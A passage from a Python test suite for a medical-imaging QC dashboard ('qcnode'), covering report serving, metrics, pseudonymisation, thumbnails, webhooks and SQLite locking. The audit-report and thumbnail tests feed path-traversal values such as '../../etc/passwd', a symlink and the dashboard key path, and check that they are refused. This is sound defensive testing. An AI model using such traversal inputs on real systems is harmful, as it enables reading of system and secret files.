    (out / "link.html").symlink_to(elsewhere / "report.html")
    c = client(headers=READ)
    url = f"/audit/{seeded.run_id}/report"

    def point_to(path) -> None:
        with sf() as s:
            s.get(AuditRun, seeded.run_id).report_path = str(path)
            s.commit()
    for path in (elsewhere / "report.html", out / ".." / ".." / ".." / "elsewhere" / "report.html",
                 out / "link.html", cfg.base_dir / "var" / "dashboard.key"):
        point_to(path)  # say, written by `qcnode audit --out DIR`, or a path someone slipped in
        r = c.get(url)
        assert r.status_code == 404 and "secret" not in r.text, path
        assert "outside audit.out_dir" in r.json()["detail"], path
    point_to(inside)
    r = c.get(url)
    assert r.status_code == 200 and "ctdivol_above_reference" in r.text
    assert r.headers["content-security-policy"] == "sandbox" and r.headers["x-content-type-options"] == "nosniff"
    point_to(out / "gone.html")
    assert c.get(url).status_code == 404


def test_metrics_from_the_database(dash):
    client, sf, seeded, _ = dash
    text = client().get("/metrics", headers=READ).text
    samples = [x for f in text_string_to_metric_families(text) for x in f.samples]
    value = lambda name, **labels: next(x.value for x in samples  # noqa: E731
                                        if x.name == name and all(x.labels.get(k) == v for k, v in labels.items()))
    assert value("qcnode_instances_received_total") == 20
    assert value("qcnode_results_total", verdict="FAIL") == 1 and value("qcnode_results_total", verdict="PASS") == 4
    assert value("qcnode_deliveries", destination="pacs", kind="sr", state="dead") == 1
    assert value("qcnode_model_info", version="mdiqa-test-1") == 1
    assert value("qcnode_sr_delivery_latency_seconds_count") == 2  # the two delivered SRs
    assert value("qcnode_sr_delivery_latency_seconds_bucket", le="+Inf") == 2
    assert "qcnode_scoring_latency_seconds_bucket" in text


def test_no_raw_patient_id_anywhere(dash):
    """With pseudonymisation on, the key shows; with it off (patient_key then holds the raw ID), never."""
    client, sf, seeded, cfg = dash
    paths = PAGES + [f"/series/{seeded.series_ids[0]}", "/series.csv", "/api/v1/series",
                     f"/api/v1/series/{seeded.series_ids[0]}", "/api/v1/alerts", "/api/v1/status"]
    assert PATIENT_KEY in client().get("/api/v1/series", headers=READ).text
    raw = Config()
    raw.base_dir = cfg.base_dir
    raw.privacy.pseudonymise_patient_id = False
    c = client(cfg_=raw)
    for path in paths:
        r = c.get(path, headers=READ)
        assert r.status_code == 200 and PATIENT_KEY not in r.text and "patient_key" not in r.text, path


def test_thumbnail_from_the_spool_in_a_soft_tissue_window(dash, shared_ct):
    from PIL import Image

    from qcnode.dashboard.thumbnails import window_to_uint8
    import numpy as np
    assert window_to_uint8(np.array([-1000.0, -160.0, 40.0, 240.0, 3000.0])).tolist() == [0, 0, 128, 255, 255]
    client, sf, seeded, cfg = dash
    spool = cfg.path(cfg.storage.spool_dir)
    src = sorted((shared_ct / "ge_head").glob("*.dcm"))[3]
    (spool / "a").mkdir(parents=True)
    shutil.copy(src, spool / "a" / "x.dcm")
    from qcnode.db.models import Instance
    sid = seeded.series_ids[3]
    with sf() as s:
        inst = s.scalars(select(Instance).where(Instance.series_id == sid).order_by(Instance.id)).all()
        inst[2].spool_path = "a/x.dcm"  # the lowest-scoring slice of the FAIL series (0.9)
        inst[1].spool_path = "../../etc/passwd"
        s.commit()
        low, escape = inst[2].id, inst[1].id
    c = client()
    d = c.get(f"/api/v1/series/{sid}", headers=READ).json()
    assert d["thumbnails"][0] == {"label": "lowest score", "instance_id": low, "score": 0.9,
                                  "position": d["thumbnails"][0]["position"], "in_spool": True}
    r = c.get(f"/series/{sid}/thumbnail/{low}.png", headers=READ)
    assert r.status_code == 200 and r.headers["content-type"] == "image/png"
    img = Image.open(io.BytesIO(r.content))
    assert img.mode == "L" and max(img.size) == 256
    hist = img.histogram()
    assert hist[0] > 0 and hist[255] > 0 and sum(hist[1:255]) > 0.1 * sum(hist)  # air, bone and soft tissue
    assert f"/series/{sid}/thumbnail/{low}.png" in c.get(f"/series/{sid}", headers=READ).text
    assert c.get(f"/series/{sid}/thumbnail/{escape}.png", headers=READ).status_code == 404
    assert c.get(f"/series/{seeded.series_ids[0]}/thumbnail/{low}.png", headers=READ).status_code == 404
    (spool / "a" / "x.dcm").unlink()  # purged from the spool: no thumbnail any more
    assert c.get(f"/series/{sid}/thumbnail/{low}.png", headers=READ).status_code == 404


class _Hook(BaseHTTPRequestHandler):
    fail_first = 0
    bodies: list[dict] = []

    def do_POST(self):  # noqa: N802
        body = json.loads(self.rfile.read(int(self.headers["Content-Length"])))
        cls = type(self)
        cls.bodies.append(body)
        code = 500 if len(cls.bodies) <= cls.fail_first else 200
        self.send_response(code)
        self.end_headers()

    def log_message(self, *args):
        pass


@pytest.mark.parametrize("fail_first,expected", [(2, "delivered"), (99, "dead")])
def test_webhooks_retried_with_backoff_then_delivered_or_dead(dash, fail_first, expected):
    import time

    from qcnode.alerts.webhooks import WebhookSender
    from qcnode.db.queue import make_owner
    client, sf, seeded, cfg = dash
    handler = type("Hook", (_Hook,), {"fail_first": fail_first, "bodies": []})
    server = HTTPServer(("127.0.0.1", 0), handler)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    try:
        cfg.alerts.webhook_verdict_fail = f"http://127.0.0.1:{server.server_port}/hook"
        cfg.outbox.backoff_initial_seconds = 0.05
        cfg.outbox.backoff_max_seconds = 0.1
        cfg.outbox.max_attempts = 4
        sender = WebhookSender(cfg, sf, make_owner("test-webhooks"))
        sender.run_once()  # the FAIL verdict is 3 days old: older than webhook_lookback_hours, not replayed
        with sf() as s:
            assert s.scalars(select(AlertWebhook)).all() == []
        cfg.alerts.webhook_lookback_hours = 24.0 * 7
        deadline = time.monotonic() + 20
        while time.monotonic() < deadline:
            sender.run_once()
            with sf() as s:
                rows = s.scalars(select(AlertWebhook)).all()
            if rows and rows[0].status in ("delivered", "dead"):
                break
            time.sleep(0.05)
    finally:
        server.shutdown()
    assert len(rows) == 1  # one FAIL verdict; audit flags have no URL configured
    w = rows[0]
    assert (w.kind, w.ref_id, w.status) == ("verdict_fail", seeded.fail_result_ids[0], expected)
    assert w.attempts == (3 if expected == "delivered" else 4)
    assert len(handler.bodies) == w.attempts
    body = handler.bodies[-1]
    assert body["alert_id"] == f"verdict_fail:{seeded.fail_result_ids[0]}" and body["verdict"] == "FAIL"
    assert dt.datetime.fromisoformat(body["at"]).utcoffset() == dt.timedelta(0)
    assert PATIENT_KEY not in json.dumps(handler.bodies)
    st = client().get("/api/v1/status", headers=READ).json()  # what `qcnode status` shows too
    assert st["webhooks"] == {expected: 1}
    if expected == "dead":
        assert w.last_error == "RuntimeError: HTTP 500"
        assert st["dead_webhooks"] == [{"webhook_id": w.id, "alert": f"verdict_fail:{w.ref_id}", "attempts": 4,
                                        "error": "RuntimeError: HTTP 500"}]
        assert "Dead webhooks" in client().get("/", headers=READ).text
    sender.run_once()  # nothing new to queue or send
    assert len(handler.bodies) == w.attempts
    alert = client().get("/api/v1/alerts", headers=READ).json()
    assert next(a for a in alert["rows"] if a["kind"] == "verdict_fail")["webhook"]["status"] == expected


def test_pages_read_while_receiving_holds_the_sqlite_write_lock(tmp_path):
    """Dashboard reads begin deferred (a WAL snapshot): a page answers at once while another
    connection holds SQLite's write lock, as the ingest's group commit does; a plain session of
    the same engine (BEGIN IMMEDIATE) would wait for the lock."""
    import sqlite3
    import time

    url = f"sqlite:///{tmp_path / 'qcnode.db'}"
    upgrade(url)
    engine = make_engine(url)
    sf = session_factory(engine)
    with sf() as s:
        seed_dashboard(s)
    cfg = Config()
    cfg.base_dir = tmp_path
    app = make_test_app(sf, cfg)
    c = TestClient(app, headers=READ)
    writer = sqlite3.connect(tmp_path / "qcnode.db", isolation_level=None, timeout=0.1)
    writer.execute("BEGIN IMMEDIATE")
    try:
        t0 = time.monotonic()
        assert c.get("/api/v1/series").json()["total"] == 5
        assert c.get("/").status_code == 200
        assert time.monotonic() - t0 < 5.0
        app.state.node.close()
        blocked = sqlite3.connect(tmp_path / "qcnode.db", isolation_level=None, timeout=0.2)
        with pytest.raises(sqlite3.OperationalError, match="locked"):
            blocked.execute("BEGIN IMMEDIATE")  # what a read through a plain session would meet
        blocked.close()
    finally:
        writer.execute("ROLLBACK")
        writer.close()
        engine.dispose()
